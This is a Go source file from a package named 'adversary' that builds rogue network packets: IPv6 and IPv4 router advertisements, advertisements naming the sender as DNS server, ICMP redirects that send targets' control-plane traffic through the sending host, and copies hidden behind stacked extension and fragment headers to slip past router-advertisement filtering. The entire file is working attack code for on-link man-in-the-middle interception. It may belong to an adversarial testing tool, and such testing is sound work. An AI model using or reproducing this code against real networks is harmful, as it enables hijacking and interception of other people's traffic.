package adversary

import (
	"encoding/binary"
	"net/netip"
	"slices"

	"golang.org/x/sys/unix"
)

const (
	routerSolicitation  = 133
	routerAdvertisement = 134
	redirect6           = 137
	redirect4           = 5
	routers4            = 9 // advertises routers (RFC 1256)
	solicitation4       = 10
)

// advertisement returns a router advertisement (RFC 4861, section 4.2) of high preference. Its lifetime is in seconds.
// It has on-link prefixes that make addresses, routes (RFC 4191), a server of names (RFC 8106) and a small MTU.
func (h *Host) advertisement(t Target, lifetime uint16) []byte {
	m := binary.BigEndian.AppendUint16([]byte{routerAdvertisement, 0, 0, 0, 64, 0x08}, lifetime)
	m = append(m, 0, 0, 0, 0, 0, 0, 0, 0)
	for _, p := range t.Networks {
		m = append(m, 3, 4, byte(p.Bits()), 0xc0, 0, 0, 7, 8, 0, 0, 7, 8, 0, 0, 0, 0)
		m = append(m, p.Addr().AsSlice()...)
		m = append(m, 24, 3, byte(p.Bits()), 0x08, 0, 0, 7, 8)
		m = append(m, p.Addr().AsSlice()...)
	}
	m = append(m, 25, 3, 0, 0, 0, 0, 7, 8)
	m = append(m, h.local.AsSlice()...)
	m = append(m, 5, 1, 0, 0, 0, 0, 5, 0) // 1280
	m = append(append(m, 1, 1), h.mac[:]...)
	return m
}

// routerMessages returns packets to all nodes, as routers send them: advertisements that live, advertisements that end,
// and solicitations.
func (h *Host) routerMessages(t Target) [][]byte {
	return [][]byte{
		icmp6(h.local, allNodes, h.advertisement(t, 1800)),
		icmp6(h.local, allNodes, h.advertisement(t, 0)),
		icmp6(h.local, allNodes, append([]byte{routerSolicitation, 0, 0, 0, 0, 0, 0, 0, 1, 1}, h.mac[:]...)),
	}
}

func routerAdvertisements(h *Host, t Target) (frames [][]byte) {
	for _, p := range h.routerMessages(t) {
		frames = append(append(frames, h.toGroup(allNodes, p)), h.toUnits(t, p)...)
	}
	for _, unit := range t.Units {
		local := linkLocal(unit)
		frames = append(frames, ethernet(unit, h.mac, unix.ETH_P_IPV6, icmp6(h.local, local, h.advertisement(t, 1800))))
	}
	own := h.address.As4()
	m := append([]byte{routers4, 0, 0, 0, 1, 2, 7, 8}, own[:]...)
	p := packet4{
		from: h.address, to: allHosts, protocol: unix.IPPROTO_ICMP, payload: icmp4(append(m, 0x7f, 0xff, 0xff, 0xff)),
	}
	ask := p
	ask.payload = icmp4([]byte{solicitation4, 0, 0, 0, 0, 0, 0, 0})
	return append(frames, h.toGroup(allHosts, p.bytes()), h.toGroup(allHosts, ask.bytes()))
}

// redirects returns frames that tell the units to reach the control plane by this host. They quote a packet of the
// unit, as they must.
func redirects(h *Host, t Target) (frames [][]byte) {
	for _, unit := range t.addresses() {
		for _, control := range t.control() {
			own := h.address.As4()
			quoted := syn(unit, control, 43000, t.Ports[0])
			m := icmp4(append(append([]byte{redirect4, 1, 0, 0}, own[:]...), quoted...))
			p := packet4{from: h.address, to: unit, protocol: unix.IPPROTO_ICMP, payload: m}.bytes()
			frames = append(append(frames, h.toUnits(t, p)...), h.toAll(p))
		}
	}
	for _, unit := range t.Units {
		for _, network := range t.Networks {
			frames = append(frames, ethernet(unit, h.mac, unix.ETH_P_IPV6, h.redirect6(linkLocal(unit), network.Addr().Next())))
		}
	}
	return frames
}

// redirect6 returns a packet that tells a unit that a destination is at this host (RFC 4861, section 4.5).
func (h *Host) redirect6(unit, destination netip.Addr) []byte {
	m := append([]byte{redirect6, 0, 0, 0, 0, 0, 0, 0}, h.local.AsSlice()...)
	m = append(m, destination.AsSlice()...)
	m = append(append(m, 2, 1), h.mac[:]...)
	quoted := packet6(unit, destination, unix.IPPROTO_NONE, nil)
	m = append(m, 4, byte(1+len(quoted)/8), 0, 0, 0, 0, 0, 0)
	return icmp6(h.local, unit, append(m, quoted...))
}

// extensions returns router messages behind extension headers: one, several, a fragment header, and more than anyone
// needs.
func extensions(h *Host, t Target) (frames [][]byte) {
	messages := h.routerMessages(t)
	for _, unit := range t.Units {
		messages = append(messages, h.redirect6(linkLocal(unit), t.Networks[0].Addr().Next()))
	}
	chains := [][]byte{
		{unix.IPPROTO_DSTOPTS},
		{unix.IPPROTO_FRAGMENT},
		{unix.IPPROTO_FRAGMENT, unix.IPPROTO_DSTOPTS, unix.IPPROTO_HOPOPTS},
		{unix.IPPROTO_DSTOPTS, unix.IPPROTO_FRAGMENT},
		slices.Repeat([]byte{unix.IPPROTO_DSTOPTS}, 5),
		slices.Repeat([]byte{unix.IPPROTO_DSTOPTS}, 9),
	}
	for _, p := range messages {
		for _, chain := range chains {
			hidden := p
			for _, kind := range chain {
				hidden = behind(hidden, kind)
			}
			frames = append(append(frames, h.toGroup(allNodes, hidden)), h.toUnits(t, hidden)...)
		}
	}
	return frames
}
